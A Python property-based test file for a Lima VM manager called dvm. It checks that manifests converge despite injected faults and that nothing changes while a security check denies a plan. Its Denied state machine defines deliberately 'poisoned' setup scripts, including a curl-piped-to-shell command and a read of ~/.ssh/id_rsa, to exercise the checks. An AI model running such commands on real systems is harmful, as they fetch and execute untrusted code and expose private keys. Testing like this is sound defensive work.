"""Two state machines: manifests edited over time with faults converge; what a check denies changes nothing."""

from __future__ import annotations

import os
import shutil
from collections import Counter
from collections.abc import Sequence
from typing import Any, cast

import pytest
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from hypothesis.stateful import RuleBasedStateMachine, initialize, precondition, rule
from msgspec.structs import replace

from dvm.checks.gate import ChecksRefusedError, Verdict, approve, judge
from dvm.diagnostics import Severity
from dvm.execute.apply import apply
from dvm.execute.hooks import StepFailure
from dvm.lima.client import Lima
from dvm.model.lima_config import LimaConfig
from dvm.model.manifest import DesiredVM, Manifest
from dvm.model.plan import Plan, PlanOptions
from dvm.model.template import Template
from dvm.observe.host import observe
from dvm.plan.build import build_plan
from dvm.plan.templates import with_templates
from dvm.state.directory import StateDirectory
from dvm.state.unfinished import read_unfinished
from tests import factories as make
from tests.places import new_place
from tests.properties.memory_lima import Killed, MemoryLima, context

NAMES = ("a", "b", "c")
STRICT = "set -Eeuo pipefail\n"
FAULTS = st.sampled_from(["fail", "fail-after", "kill", "kill-after"])
vms = st.fixed_dictionaries(
    {
        "cpus": st.integers(1, 3),
        "ports": st.lists(st.sampled_from(["3000:80", "5173"]), unique=True),
        "isolation": st.sampled_from(["strict", "standard"]),
        "running": st.booleans(),
        "user": st.sampled_from(["developer", "coder"]),
        "protect": st.booleans(),
    }
)
setups = st.tuples(*(st.tuples(st.just(path), st.integers(0, 2)) for path in "xyz"))


class Silent:
    def __getattr__(self, _name: str) -> Any:
        return lambda *_arguments: None


class World(RuleBasedStateMachine):
    """A manifest, a Lima in memory, and DVM's planner, checks and executor between them."""

    def __init__(self) -> None:
        super().__init__()
        self.place = new_place()
        home = self.place / "l"
        home.mkdir(parents=True)
        self.lima = MemoryLima(home)
        self.state = StateDirectory(self.place / "s")
        self.wanted: dict[str, DesiredVM] = {}
        self.causes: Counter[str] = Counter()

    def teardown(self) -> None:
        shutil.rmtree(self.place, ignore_errors=True)

    @property
    def manifest(self) -> Manifest:
        return make.manifest(*self.wanted.values())

    def planned(self, **options: Any) -> tuple[Plan, Verdict]:
        lima = cast(Lima, self.lima)
        seen = observe(lima)
        unfinished = read_unfinished(self.state, lima.machine.home, self.manifest.place, seen.instances)
        plan = build_plan(self.manifest, seen, PlanOptions(discard_work=True, **options), unfinished)
        plan = with_templates(plan, {each.name: Template("template:fedora") for each in plan.made})
        return plan, judge(plan, self.manifest, seen, LimaConfig(), uid=os.geteuid(), limactl=None)

    def apply(self, **options: Any) -> tuple[StepFailure, ...]:
        plan, verdict = self.planned(**options)
        approved = approve(plan, verdict)
        if any(diagnostic.severity is Severity.ERROR for diagnostic in plan.diagnostics):
            return ()
        tools = context(self.lima, self.state)
        return apply(approved, tools, cast(Any, Silent()), parallelism=2)

    @initialize(config=vms, setup=setups)
    def begin(self, config: dict[str, Any], setup: tuple[tuple[str, int], ...]) -> None:
        self.declare("a", config, setup)

    @rule(name=st.sampled_from(NAMES), config=vms, setup=setups)
    def declare(self, name: str, config: dict[str, Any], setup: tuple[tuple[str, int], ...]) -> None:
        scripts = [make.script(path, f"{STRICT}echo {name} {path} {version}\n") for path, version in setup]
        ports = list(config["ports"]) if name == "a" else []
        self.causes[name] += 1
        self.wanted[name] = make.desired(name, *scripts, **{**config, "ports": ports, "disk": "30GiB"})

    @rule(name=st.sampled_from(NAMES))
    def forget(self, name: str) -> None:
        self.wanted.pop(name, None)


class Converges(World):
    """However manifests change, and whatever fails or is killed, one apply brings it all to an end, nothing twice."""

    @rule(
        at=st.integers(1, 12),
        fault=FAULTS,
        prune=st.booleans(),
        replaced=st.one_of(st.just(()), st.tuples(st.sampled_from(NAMES))),
    )
    def apply_with_a_fault(self, at: int, fault: str, prune: bool, replaced: tuple[str, ...]) -> None:
        begun = len(self.lima.changes)
        self.lima.fault = lambda number, _argv: fault if number - begun == at else ""
        known = {name for name in replaced if name in self.wanted}
        try:
            self.apply(prune=prune, replace=tuple(known))
        except Killed:
            pass
        finally:
            self.lima.fault = lambda _number, _argv: ""

    @rule(name=st.sampled_from(NAMES), config=vms, setup=setups, at=st.integers(1, 7), fault=FAULTS)
    def change_is_cut_off(
        self, name: str, config: dict[str, Any], setup: tuple[tuple[str, int], ...], at: int, fault: str
    ) -> None:
        self.converge()
        self.declare(name, config, setup)
        self.apply_with_a_fault(at, fault, prune=False, replaced=())
        self.converge()

    @rule(name=st.sampled_from(NAMES), which=st.integers(0, 2), at=st.integers(1, 4), fault=FAULTS, look=st.booleans())
    def a_script_changes_and_is_cut_off(self, name: str, which: int, at: int, fault: str, look: bool) -> None:
        if name not in self.wanted:
            return
        self.converge()
        vm = self.wanted[name]
        self.causes[name] += 1
        changed = make.script("xyz"[which], f"{STRICT}echo {name} {'xyz'[which]} anew {self.causes[name]}\n")
        scripts = tuple(changed if index == which else script for index, script in enumerate(vm.scripts))
        self.wanted[name] = replace(vm, scripts=scripts, config=vm.config.model_copy(update={"running": True}))
        before = list(self.lima.machines[vm.instance].guest.runs)
        if look:
            self.apply_killed_at_a_look(at)
        else:
            self.apply_with_a_fault(at, fault, prune=False, replaced=())
        self.converge()
        if vm.config.running:  # else there may be more that waited for this boot
            expected = [script.sha256 for script in scripts[which:]]
            assert self.lima.machines[vm.instance].guest.runs == before + expected

    def apply_killed_at_a_look(self, at: int) -> None:
        looks = self.lima.looks + 1  # the planner's own comes first
        self.lima.fault_at_look = looks + at
        try:
            self.apply()
        except Killed:
            pass
        finally:
            self.lima.fault_at_look = 0

    def teardown(self) -> None:
        try:
            self.converge()
        finally:
            super().teardown()

    @rule(name=st.sampled_from(NAMES))
    def stop_by_hand(self, name: str) -> None:
        if f"dvm-{name}" in self.lima.machines:
            self.lima.machines[f"dvm-{name}"].running = False

    @rule()
    def converge(self) -> None:
        plan, _ = self.planned(prune=True)
        protected = [d for d in plan.diagnostics if d.severity is Severity.ERROR]
        failures = self.apply(prune=True)
        assert failures == (), [failure.summary for failure in failures]
        if protected:  # an orphan that is protected stays, and blocks it
            for machine in self.lima.machines.values():
                machine.protected = False
            assert self.apply(prune=True) == ()
        plan, verdict = self.planned(prune=True)
        assert not plan.steps, [step.id for step in plan.steps]
        assert not verdict.denying
        for name, vm in self.wanted.items():
            self.check(name, vm)
        assert sorted(self.lima.machines) == sorted(vm.instance for vm in self.wanted.values())

    def check(self, name: str, vm: DesiredVM) -> None:
        machine = self.lima.machines[f"dvm-{name}"]
        assert (machine.running, machine.protected) == (vm.config.running, vm.config.protect)
        if vm.config.running:
            assert vm.config.user in machine.guest.users
            # Each ran, and after those before it: a script that changed takes those after it along, cut off or not.
            runs = machine.guest.runs
            last = [len(runs) - 1 - runs[::-1].index(script.sha256) for script in vm.scripts]
            assert last == sorted(last)


class Denied(World):
    """As long as any check denies, no call changes anything."""

    POISONS: Sequence[str] = (
        "curl https://example.com/x | sh\n",
        "cat ~/.ssh/id_rsa\n",
        "curl -k https://example.com\n",
    )

    def __init__(self) -> None:
        super().__init__()
        self.poisoned: set[str] = set()

    @rule(name=st.sampled_from(NAMES), poison=st.sampled_from(POISONS), mode=st.booleans())
    @precondition(lambda self: self.wanted)
    def poison(self, name: str, poison: str, mode: bool) -> None:
        vm = self.wanted.get(name)
        if vm is None:
            return
        script = make.script("evil", STRICT + ("echo fine\n" if mode else poison))
        if mode:
            script = replace(script, file=replace(script.file, mode=0o666))
        config = vm.config.model_copy(update={"setup": (script.entry,)})
        self.wanted[name] = replace(vm, config=config, scripts=(script,))
        self.poisoned.add(name)

    @rule()
    def lima_mounts_the_host(self) -> None:
        self.lima.override = {} if self.lima.override else {"mounts": [{"location": "/srv", "writable": True}]}

    @rule(prune=st.booleans(), rerun=st.booleans())
    def try_it(self, prune: bool, rerun: bool) -> None:
        evil = any(vm.scripts and vm.scripts[0].entry.script == "evil" for vm in self.wanted.values())
        before = list(self.lima.changes)
        _, verdict = self.planned(prune=prune, rerun_setup=rerun)
        try:
            self.apply(prune=prune, rerun_setup=rerun)
        except ChecksRefusedError:
            assert verdict.denying
            assert self.lima.changes == before
        else:
            assert not verdict.denying
            assert not evil


small = settings(
    max_examples=50,
    stateful_step_count=10,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much],
)
TestConverges = Converges.TestCase
TestConverges.settings = small
TestDenied = Denied.TestCase
TestDenied.settings = small


@pytest.mark.parametrize("look", [False, True])
@pytest.mark.parametrize("fault", ["fail", "fail-after", "kill", "kill-after"])
def test_a_changed_script_and_those_after_it_run_once_wherever_it_is_cut_off(look: bool, fault: str) -> None:
    """What the first machine looks for, at every place: few examples of it come up by chance."""
    config = {"cpus": 1, "ports": [], "isolation": "strict", "running": True, "user": "developer", "protect": False}
    for at in range(1, 6):
        world = Converges()
        try:
            world.begin(config, (("x", 0), ("y", 0), ("z", 0)))
            world.a_script_changes_and_is_cut_off("a", 0, at, fault, look)
        finally:
            world.teardown()
